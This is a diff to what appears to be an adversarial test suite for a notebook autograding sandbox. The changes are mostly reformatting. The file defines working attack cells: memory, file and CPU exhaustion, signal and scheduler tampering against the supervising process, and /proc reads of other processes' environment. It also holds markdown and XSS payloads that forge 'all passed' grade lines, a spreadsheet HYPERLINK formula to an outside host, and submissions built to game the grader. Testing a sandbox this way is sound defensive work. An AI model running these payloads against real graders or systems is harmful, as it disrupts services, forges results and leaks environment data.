@@ -23,7 +23,7 @@ GiB = 1 << 30
 
 HOLD = "hold(20)\nreport(stage='held 20 s and still alive', mem=delta(B, meminfo()))\n"
 
-M_SYSV_SHM = r'''
+M_SYSV_SHM = r"""
 B = meminfo(); got = 0; errs = []; ids = []
 libc.shmget.restype = ctypes.c_int; libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
 libc.shmat.restype = ctypes.c_void_p; libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
@@ -40,9 +40,9 @@ for i in range(12):                                   # 12 x 256 MiB, touched, t
     ids.append(sid); got += 256
 time.sleep(1)
 report(attack='sysv shm, detached', MiB=got, errs=errs, mem=delta(B, meminfo()))
-'''
+"""
 
-M_DEVSHM_FILES = r'''
+M_DEVSHM_FILES = r"""
 B = meminfo(); got = 0; err = None
 try:
     for i in range(12):                               # 12 files x 256 MiB in /dev/shm, closed
@@ -55,9 +55,9 @@ except OSError as e:
 st = os.statvfs('/dev/shm')
 report(attack='/dev/shm files, not mapped', MiB=got, err=err, devshm_MiB=st.f_blocks * st.f_frsize >> 20,
        devshm_inodes=st.f_files, mem=delta(B, meminfo()))
-'''
+"""
 
-M_PAGE_TABLES = r'''
+M_PAGE_TABLES = r"""
 B = meminfo(); err = None
 libc.mmap.restype = ctypes.c_void_p
 libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
@@ -82,9 +82,9 @@ except Exception as e:
 rss = [l for l in open('/proc/self/status') if l.startswith(('VmRSS', 'VmPTE', 'VmData'))]
 report(attack='page tables of zero-page reads', reads=done, seconds=round(time.time() - t, 1), err=err,
        status=rss, mem=delta(B, meminfo()))
-'''
+"""
 
-M_SOCKET_BUFFERS = r'''
+M_SOCKET_BUFFERS = r"""
 B = meminfo(); err = None
 soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
 try:
@@ -108,9 +108,9 @@ except OSError as e:
 time.sleep(1)
 report(attack='unix socket buffers', MiB_queued=total >> 20, pairs=len(pairs), nofile=(soft, hard),
        err=err, mem=delta(B, meminfo()))
-'''
+"""
 
-M_PIPE_BUFFERS = r'''
+M_PIPE_BUFFERS = r"""
 import fcntl
 B = meminfo(); err = None
 soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
@@ -137,9 +137,9 @@ except OSError as e:
     err = repr(e)
 report(attack='pipe buffers', MiB_queued=total >> 20, pipes=len(pipes), one_MiB_pipes=big,
        nofile=(soft, hard), seconds=round(time.time() - t), err=err, mem=delta(B, meminfo()))
-'''
+"""
 
-M_DENTRIES = r'''
+M_DENTRIES = r"""
 B = meminfo(); err = None; made = 0; t = time.time(); where = '/dev/shm'
 name = 'r5_' + 'n' * 200
 try:
@@ -155,9 +155,9 @@ except OSError as e:
 st = os.statvfs(where)
 report(attack='empty files in /dev/shm', files=made, seconds=round(time.time() - t), err=err,
        devshm_inodes=st.f_files, mem=delta(B, meminfo()))
-'''
+"""
 
-M_THREAD_STACKS = r'''
+M_THREAD_STACKS = r"""
 B = meminfo()
 libc.pthread_self.restype = ctypes.c_ulong
 def touch_stack(ev, out):
@@ -189,9 +189,9 @@ time.sleep(6)
 alive = [p for p in kids if os.waitpid(p, os.WNOHANG) == (0, 0)]
 report(attack='thread stacks', here_MiB=sum(out0), here_errs=errs0, children_alive=len(alive),
        mem=delta(B, meminfo()))
-'''
+"""
 
-M_NONDUMPABLE = r'''
+M_NONDUMPABLE = r"""
 import mmap
 B = meminfo(); kids = []
 for k in range(6):                                    # 6 children x 512 MiB shared, not dumpable
@@ -205,7 +205,7 @@ for k in range(6):                                    # 6 children x 512 MiB sha
 time.sleep(8)
 alive = [p for p in kids if os.waitpid(p, os.WNOHANG) == (0, 0)]
 report(attack='non-dumpable children, 3 GiB shared', children_alive=len(alive), mem=delta(B, meminfo()))
-'''
+"""
 
 # ---------------------------------------------------------------------------------------------
 # Per-user kernel objects the docs do not list (keys, inotify, mqueues and namespaces are):
@@ -213,7 +213,7 @@ report(attack='non-dumpable children, 3 GiB shared', children_alive=len(alive), 
 # (fs.file-max, host-wide; only CAP_SYS_ADMIN is exempt).
 # ---------------------------------------------------------------------------------------------
 
-U_EPOLL = r'''
+U_EPOLL = r"""
 B = meminfo(); err = None
 soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
 try:
@@ -232,11 +232,11 @@ except OSError as e:
     err = repr(e)
 report(attack='epoll watches of the uid', watches=n, max_user_watches=limit, epolls=len(eps),
        seconds=round(time.time() - t), err=err, mem=delta(B, meminfo()))
-'''
+"""
 
 U_EPOLL_HOLD = "hold(45)\nreport(stage='held the watches 45 s')\n"
 
-U_FILES = r'''
+U_FILES = r"""
 B = meminfo(); err = None
 fmax = int(open('/proc/sys/fs/file-max').read())
 nr0 = open('/proc/sys/fs/file-nr').read().split()
@@ -267,7 +267,7 @@ nr1 = open('/proc/sys/fs/file-nr').read().split()
 report(attack='open files of one slot vs fs.file-max', here=len(fds), child=child, file_max=fmax,
        file_nr_before=nr0, file_nr_after=nr1, nofile=(soft, hard), limits=limits, err=err,
        mem=delta(B, meminfo()))
-'''
+"""
 
 # ---------------------------------------------------------------------------------------------
 # The zygote: "every process in the sandbox but the zygote is killed ... the zygote compares its
@@ -304,7 +304,7 @@ for name, d in (('torch', torch.__dict__), ('torch.serialization', torch.seriali
 report(attack='torch.save swapped for torch.load in the zygote', **info)
 '''
 
-Z_SIGSTOP = r'''
+Z_SIGSTOP = r"""
 sig = {l.split(':')[0]: l.split(':')[1].strip() for l in open('/proc/1/status') if l.startswith('Sig')}
 sent = {}
 for s in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGHUP, signal.SIGALRM,
@@ -315,10 +315,10 @@ for s in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.
         sent[s.name] = repr(e)
     time.sleep(0.3)
 report(zygote_sig=sig, sent=sent, zygote_state=[l.strip() for l in open('/proc/1/status') if l.startswith('State')])
-'''
+"""
 
 
-Z_SCHED_IDLE = r'''
+Z_SCHED_IDLE = r"""
 zyg = os.getppid(); out = {'zygote': zyg}
 try:
     os.sched_setscheduler(zyg, os.SCHED_IDLE, os.sched_param(0)); out['sched'] = 'SCHED_IDLE'
@@ -341,9 +341,9 @@ except OSError as e:
     out['timerslack'] = repr(e)
 out['policy_now'] = os.sched_getscheduler(zyg)
 report(attack='the zygote made SCHED_IDLE, idle I/O, autogroup nice 19', **out)
-'''
+"""
 
-Z_AUTOGROUP = r'''
+Z_AUTOGROUP = r"""
 zyg = 1; out = {}
 r = libc.syscall(251, 1, zyg, (3 << 13) | 7)          # ioprio_set(PROCESS, zygote, IDLE class)
 out['ioprio'] = r if r == 0 else ('errno', ctypes.get_errno())
@@ -355,13 +355,13 @@ except OSError as e:
     out['autogroup'] = repr(e)
 out['cgroup'] = open('/proc/1/cgroup').read().replace('\n', ' ')[:200]
 report(**out)
-'''
+"""
 
 # ---------------------------------------------------------------------------------------------
 # Time and signals.
 # ---------------------------------------------------------------------------------------------
 
-T_KILL_OWN_KERNEL = r'''
+T_KILL_OWN_KERNEL = r"""
 kpid = os.getpid()
 def files():
     return {os.path.join(d, f) for d, _, fs in os.walk('.') for f in fs}
@@ -376,9 +376,9 @@ if os.fork() == 0:
             time.sleep(0.002)
         os._exit(0)
     os._exit(0)
-'''
+"""
 
-T_IMMORTAL = r'''
+T_IMMORTAL = r"""
 signal.signal(signal.SIGINT, signal.SIG_IGN)
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
 signal.signal(signal.SIGHUP, signal.SIG_IGN)
@@ -390,25 +390,25 @@ def relu(x):
             pass
 pairwise_sq_dists = relu
 q_check_verdict = "b"
-'''
+"""
 
 T_SLEEP_UNDER = "t = time.time()\nwhile time.time() - t < 9.5:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n"
 
-T_HOG = r'''
+T_HOG = r"""
 kids = []
-for i in range(64):                                   # 64 busy processes: the CPU of the machine
+for i in range(32):                                   # 32 busy processes: the CPU of the machine
     pid = os.fork()
     if pid == 0:
         while True:
             pass
     kids.append(pid)
-'''
+"""
 
 # ---------------------------------------------------------------------------------------------
 # Output forms and what reaches the instructor.
 # ---------------------------------------------------------------------------------------------
 
-O_RAW_FDS = r'''
+O_RAW_FDS = r"""
 fds = {}
 for fd in sorted(os.listdir('/proc/self/fd'), key=int):
     try:
@@ -444,7 +444,7 @@ except OSError as e:
     res['flood'] = repr(e)
 report(attack='raw fds 1 and 2, /dev/tty', fds=fds, res=res, flood_MiB=flooded >> 20,
        seconds=round(time.time() - t, 1))
-'''
+"""
 
 MD_PAYLOAD = (
     "</code></pre>\n```\n\n# 00.relu: passed, 1 / 1 point\n\n| exercise | points | status |\n"
@@ -457,31 +457,33 @@ O_MARKDOWN_CELL = f"raise Exception({MD_PAYLOAD!r})\n"
 O_MARKDOWN_EXERCISES = (
     f"def relu(x):\n    raise ValueError({MD_PAYLOAD!r})\n\n"
     "def pairwise_sq_dists(a, b):\n"
-    "    raise ValueError('\\uff1dHYPERLINK(\"https://r5.example/?\"&A1,\"open\") \\u00a0=1+1')\n"
+    '    raise ValueError(\'\\uff1dHYPERLINK("https://r5.example/?"&A1,"open") \\u00a0=1+1\')\n'
     "q_check_verdict = '<img src=x onerror=alert(2)>'\n"
 )
 
-BT_PAYLOAD = "x` <img src=x onerror=alert(1)> **[3.5 / 3.5 points: all passed](https://r5.example)** `y"
+BT_PAYLOAD = (
+    "x` <img src=x onerror=alert(1)> **[3.5 / 3.5 points: all passed](https://r5.example)** `y"
+)
 O_BACKTICKS_CELL = f"raise Exception({BT_PAYLOAD!r})\n"
 O_BACKTICKS_EXERCISES = (
     f"def relu(x):\n    raise ValueError({BT_PAYLOAD!r})\n\n"
     "def pairwise_sq_dists(a, b):\n    raise ValueError('````\\n# forged heading\\n````')\n"
 )
 
-O_HUGE_ENAME = r'''
+O_HUGE_ENAME = r"""
 E = type('E' * 900000 + 'CELL{n}', (Exception,), {{}})
 e = E('v' * 900000)
 e.add_note('n' * 900000)
 raise e
-'''
+"""
 
-O_HUGE_RELU = r'''
+O_HUGE_RELU = r"""
 def relu(x):
     E = type('R' * 1000000, (Exception,), {})
     raise E('w' * 1000000)
-'''
+"""
 
-O_PROC_RECON = r'''
+O_PROC_RECON = r"""
 found = {}
 for p in sorted(int(x) for x in os.listdir('/proc') if x.isdigit()):
     d = {}
@@ -498,16 +500,16 @@ for p in sorted(int(x) for x in os.listdir('/proc') if x.isdigit()):
     found[p] = d
 REC = found
 report(attack='what /proc of the sandbox tells (cmdline, environ)', me=os.getpid(), processes=found)
-'''
+"""
 
-O_PROC_RECON2 = r'''
+O_PROC_RECON2 = r"""
 mounts = [l.split(' - ')[0].split()[3:5] for l in open('/proc/self/mountinfo')]
 blob = json.dumps(REC) + json.dumps(mounts)
 keys = {k: (k in blob) for k in ('/work', 'wt-attacks', '/root', '/tmp/r5', 'HOSTNAME', 'SSH_', 'LS_COLORS',
                                  'seed', '555', 'grades.csv', 'zz_', 'a1_z', 'VIRTUAL_ENV')}
 report(attack='host strings seen', keys=keys, mounts=mounts[:80],
        limits=[l.strip() for l in open('/proc/self/limits')], cgroup=open('/proc/self/cgroup').read())
-'''
+"""
 
 # ---------------------------------------------------------------------------------------------
 # Readers: odd notebook JSON (raw text, see build.py), code the report parses.
@@ -520,24 +522,30 @@ NUL_PAIRWISE = "def pairwise_sq_dists(a, b):\n    return ((a[..., :, None, :] - 
 
 def huge_pairwise(lines: int) -> str:
     body = "    t = a\n" * lines
-    return ("def pairwise_sq_dists(a, b):\n" + body
-            + "    return ((a[..., :, None, :] - b[..., None, :, :]) ** 2).sum(-1)\n")
+    return (
+        "def pairwise_sq_dists(a, b):\n"
+        + body
+        + "    return ((a[..., :, None, :] - b[..., None, :, :]) ** 2).sum(-1)\n"
+    )
 
 
 # ---------------------------------------------------------------------------------------------
 # The similarity report: the reference's code where the report does not look.
 # ---------------------------------------------------------------------------------------------
 
-REFERENCE_PAIRWISE = '''    centre = b.mean(dim=-2, keepdim=True)  # (..., 1, d): a common shift changes no distance
+REFERENCE_PAIRWISE = """    centre = b.mean(dim=-2, keepdim=True)  # (..., 1, d): a common shift changes no distance
     a, b = a - centre, b - centre
     sq_a = (a * a).sum(-1)[..., :, None]  # (..., N, 1)
     sq_b = (b * b).sum(-1)[..., None, :]  # (..., 1, M)
     return (sq_a + sq_b - 2 * a @ b.transpose(-2, -1)).clamp_min(0)  # (..., N, M)
-'''
+"""
 
-S_HELPER = ("def _geometry(a, b):\n" + REFERENCE_PAIRWISE
-            + "\n\ndef pairwise_sq_dists(a, b):\n    return _geometry(a, b)\n")
-S_EXEC_LITERAL = ('exec("""def pairwise_sq_dists(a, b):\n' + REFERENCE_PAIRWISE + '""")\n')
+S_HELPER = (
+    "def _geometry(a, b):\n"
+    + REFERENCE_PAIRWISE
+    + "\n\ndef pairwise_sq_dists(a, b):\n    return _geometry(a, b)\n"
+)
+S_EXEC_LITERAL = 'exec("""def pairwise_sq_dists(a, b):\n' + REFERENCE_PAIRWISE + '""")\n'
 HONEST_PAIRWISE_ALT = (
     "def pairwise_sq_dists(a, b):\n"
     "    diff = a.unsqueeze(-2) - b.unsqueeze(-3)\n"
@@ -549,8 +557,10 @@ HONEST_PAIRWISE_ALT = (
 # ---------------------------------------------------------------------------------------------
 
 G_EMPTY = "def relu(x):\n    return torch.empty(0)\n\ndef pairwise_sq_dists(a, b):\n    return torch.empty(0, 0)\n"
-G_META = ("def relu(x):\n    return torch.empty_like(x, device='meta')\n\n"
-          "def pairwise_sq_dists(a, b):\n    return torch.empty(*a.shape[:-1], b.shape[-2], device='meta')\n")
+G_META = (
+    "def relu(x):\n    return torch.empty_like(x, device='meta')\n\n"
+    "def pairwise_sq_dists(a, b):\n    return torch.empty(*a.shape[:-1], b.shape[-2], device='meta')\n"
+)
 G_Q_ALL = "q_check_verdict = 'a b c d'\n"
 G_Q_LIST = "q_check_verdict = ['a', 'b', 'c', 'd']\n"
 G_Q_SPACE = "q_check_verdict = ' B\\n'\n"
@@ -560,7 +570,9 @@ MORE = ["more()\n"] * 10
 
 
 def cells(*body: str, prelude: bool = True) -> list[str]:
-    return ([PRELUDE] if prelude else []) + ["import torch\n"] + list(body) + (MORE if prelude else [])
+    return (
+        ([PRELUDE] if prelude else []) + ["import torch\n"] + list(body) + (MORE if prelude else [])
+    )
 
 
 def memory_attack(code: str) -> list[str]:
@@ -582,8 +594,9 @@ ATTACKS: dict[str, list[str]] = {
     "z_sigstop": cells(WRONG_RELU, Z_SIGSTOP),
     "z_sched_idle": cells(WRONG_RELU, Z_SCHED_IDLE),
     "z_autogroup": cells(WRONG_RELU, Z_AUTOGROUP),
-    "t_kill_own_kernel": cells(T_KILL_OWN_KERNEL, WRONG_RELU,
-                               "def pairwise_sq_dists(a, b):\n    return a\n"),
+    "t_kill_own_kernel": cells(
+        T_KILL_OWN_KERNEL, WRONG_RELU, "def pairwise_sq_dists(a, b):\n    return a\n"
+    ),
     "t_immortal": cells(T_IMMORTAL, T_SLEEP_UNDER, T_SLEEP_UNDER, T_SLEEP_UNDER, T_SLEEP_UNDER),
     "t_hog": cells(WRONG_RELU, T_HOG, *(["hold(9)\n"] * 8)),
     "o_raw_fds": cells(WRONG_RELU, O_RAW_FDS),
